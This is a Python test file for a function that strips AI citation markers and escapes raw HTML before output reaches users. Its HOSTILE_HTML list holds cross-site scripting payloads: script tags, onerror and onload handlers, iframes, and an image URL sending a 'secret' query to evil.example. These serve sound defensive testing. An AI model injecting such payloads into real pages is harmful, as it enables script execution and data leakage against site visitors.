"""prose_only: members never see citation markers (stored content keeps them) nor live HTML."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markup import html_markup, markdown_raw_html
from testenv import examples

from citewall.boundary.prose import prose_only
from citewall.citations.markers import parse_markers


def test_strips_every_marker_form() -> None:
    text = "A [1]. B [1, 3]. C [2-4]. D [1][2]. E ［１］. F [99] [0] [-1]."
    assert prose_only(text) == "A. B. C. D. E. F."


def test_keeps_code_and_non_marker_brackets() -> None:
    assert prose_only("Run `a[1]` [note] [2].") == "Run `a[1]` [note]."


def test_non_string_gives_empty() -> None:
    assert prose_only(None) == ""  # type: ignore[arg-type]


chars = st.sampled_from([*"[]［］１2,- .`\n", "[1]", "[1-3]", "[99]", "[-1]", "word"])


@settings(max_examples=examples(400), deadline=None)
@given(st.lists(chars, max_size=25).map("".join) | st.text(max_size=60))
def test_output_has_no_marker(text: str) -> None:
    out = prose_only(text)
    assert parse_markers(out) == []
    assert prose_only(out) == out


# -- raw HTML is inert -------------------------------------------------------------------------


HOSTILE_HTML = [
    '<a href="https://evil.example/x">click</a>',
    "<img src=https://evil.example/p.png?q=secret>",
    "<IMG SRC=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<!-- hidden --><!DOCTYPE html><?php x ?><![CDATA[x]]>",
    "<svg/onload=alert(1)>",
    "</p><iframe src=//evil.example>",
    "`<img src=x>`",  # in a code span: a client's code detection may differ from ours
    "\\`<img src=x>\\`",
    "<div\nclass=x>",
    "trailing <",
    "<https://evil.example/auto>",
]


def test_raw_html_reaches_members_inert() -> None:
    for text in HOSTILE_HTML:
        out = prose_only(f"Answer {text} [1].")
        assert html_markup(out) == [], (text, out)
        assert markdown_raw_html(out) == [], (text, out)


def test_html_is_escaped_not_removed() -> None:
    assert prose_only('See <a href="https://e.example">the form</a> [1].') == (
        'See &lt;a href="https://e.example">the form&lt;/a>.'
    )
    # A less-than sign that opens no markup is prose and stays as written.
    assert prose_only("If 1 < 2 and 3 <= 4 [2].") == "If 1 < 2 and 3 <= 4."


html_pieces = st.sampled_from(
    ["<", ">", "/", "!", "?", "a", "img", " src=x", "-->", "<!--", "`", "\\", "\n", "[1]", " ", "&"]
)


@settings(max_examples=examples(600), deadline=None)
@given(st.lists(html_pieces | chars, max_size=30).map("".join) | st.text(max_size=60))
def test_no_output_holds_markup_and_prose_only_is_idempotent(text: str) -> None:
    out = prose_only(text)
    assert html_markup(out) == [], out
    assert markdown_raw_html(out) == [], out
    assert prose_only(out) == out


#: Marker forms models write; none may reach a member.
MARKER_FORMS = ["【3】", "【3†source】", "[^1]", "[1†source]", "[[1]]", "［１］", "[2, 3]"]


def test_every_marker_form_a_model_writes_is_stripped() -> None:
    for form in MARKER_FORMS:
        assert prose_only(f"Refunds take 5 days {form}. Ask billing{form}.") == (
            "Refunds take 5 days. Ask billing."
        ), form
    assert prose_only("Void it [^1].\n\n[^1]: Refund policy") == "Void it.\n\n"


variant_chars = st.sampled_from([*"[]【】^†1 2:", "source", "[^1]", "【1†source】", "[[1]]", "a"])


@settings(max_examples=examples(400), deadline=None)
@given(st.lists(variant_chars, max_size=25).map("".join))
def test_no_marker_form_survives(text: str) -> None:
    out = prose_only(text)
    assert parse_markers(out) == []
    assert prose_only(out) == out


def test_a_marker_after_an_echoed_unclosed_fence_is_stripped() -> None:
    # Small models echo the prompt's passage header and its opening fence, then cite: only a
    # closed fence is code, so the member never reads the passage number.
    assert prose_only("[2] (untrusted data)\n~~~~\nVoid it within 30 days [2].") == (
        "(untrusted data)\n~~~~\nVoid it within 30 days."
    )
    # A closed fence is code: its brackets are not markers.
    assert prose_only("```\nitems[1]\n```\nDone [1].") == "```\nitems[1]\n```\nDone."


@pytest.mark.parametrize(
    "raw",
    ["[[1](see [1])]", "[[1](x)]", "[a[1]](https://evil.example)", "[[[2](x)](y)]"],
)
def test_a_marker_or_link_uncovered_by_stripping_the_other_is_stripped_too(raw: str) -> None:
    prose = prose_only(raw)
    assert not parse_markers(prose) and "](" not in prose, prose
